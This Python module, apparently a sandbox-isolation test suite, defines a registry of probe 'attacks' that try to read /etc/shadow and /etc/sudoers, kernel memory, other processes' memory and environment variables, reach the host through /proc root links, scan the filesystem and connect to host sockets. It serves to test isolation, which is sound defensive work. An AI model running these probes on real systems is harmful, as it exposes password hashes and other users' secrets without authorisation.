"""Attacks that read what is not theirs."""

import os
import pathlib
import socket

_NOT_WALKED = ("/proc", "/sys", "/dev")
_READ_BYTES = 1 << 20


def _readable(paths):
    got = []
    for path in paths:
        try:
            if os.path.isdir(path):
                names = os.listdir(path)
                got.append(f"{path}: {names[:3]}")
            else:
                with open(path, "rb") as file:
                    got.append(f"{path}: {file.read(64)!r}")
        except OSError:
            pass
    return got


def read_paths(paths):
    """Read files and directories by their names on the host."""
    return _readable(paths)


def read_etc_shadow():
    """Read the host's password hashes."""
    return _readable(["/etc/shadow", "/etc/gshadow", "/etc/sudoers"])


def read_through_own_root(paths):
    """Read the host by the ways around through /proc."""
    ways = ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../../..", "/proc/thread-self/root/..")
    return _readable([way + path for way in ways for path in paths])


def find_marker(marker):
    """Look for a text in every file that can be read, wherever that is."""
    got = []
    for folder, names, files in os.walk("/"):
        if folder.startswith(_NOT_WALKED):
            names[:] = []
            continue
        names[:] = [name for name in names if name not in ("lib", "share", "include", "node_modules")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path):
                    with open(path, "rb") as file:
                        if marker.encode() in file.read(_READ_BYTES):
                            got.append(path)
            except OSError:
                continue
    return got


def read_environments(marker):
    """Read the variables of every process that can be seen."""
    got = []
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            if marker.encode() in (process / "environ").read_bytes():
                got.append(str(process))
        except OSError:
            continue
    return got


def see_processes(names):
    """Look for processes by what is in their command lines."""
    got = []
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            command = (process / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        got += [f"{process.name}: {command[:80]}" for name in names if name in command]
    return got


def read_process(pid):
    """Open what /proc has of one process: its memory, descriptors, working directory and root."""
    return _readable([f"/proc/{pid}/{name}" for name in ("mem", "environ", "fd", "cwd", "root", "maps", "map_files")])


def foreign_descriptors():
    """List descriptors that lead to files, directories or devices: nothing but the output and a socket is inherited."""
    got = []
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        is_own = target.startswith(("socket:", "pipe:", "anon_inode:", "/proc/")) or target == "/dev/null"
        if not is_own and not target.startswith(("/var/task", "/var/lang", "/usr")):
            got.append(f"{name}: {target}")
    return got


def read_kernel_secrets():
    """Read what only root of the host may."""
    return _readable(["/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/proc/1/mem", "/sys/kernel/debug"])


def read_other_temporary_files(name):
    """Look for a file that another environment, or the host, left in /tmp or /dev/shm."""
    return _readable([f"/tmp/{name}", f"/dev/shm/{name}", f"/var/tmp/{name}", f"/run/{name}"])


def connect(addresses):
    """Connect to addresses of the host, and to abstract sockets (named with a leading @)."""
    got = []
    for address in addresses:
        is_unix = isinstance(address, str)
        with socket.socket(socket.AF_UNIX if is_unix else socket.AF_INET) as attacker:
            attacker.settimeout(2)
            try:
                attacker.connect(address.replace("@", "\0", 1) if is_unix else tuple(address))
                got.append(str(address))
            except OSError:
                continue
    return got


def tell_variables(names):
    """Return the function's own variables as they came through."""
    return [os.environ.get(name) for name in names]


ATTACKS = {
    attack.__name__: attack
    for attack in (
        read_paths,
        read_etc_shadow,
        read_through_own_root,
        find_marker,
        read_environments,
        see_processes,
        read_process,
        foreign_descriptors,
        read_kernel_secrets,
        read_other_temporary_files,
        connect,
        tell_variables,
    )
}
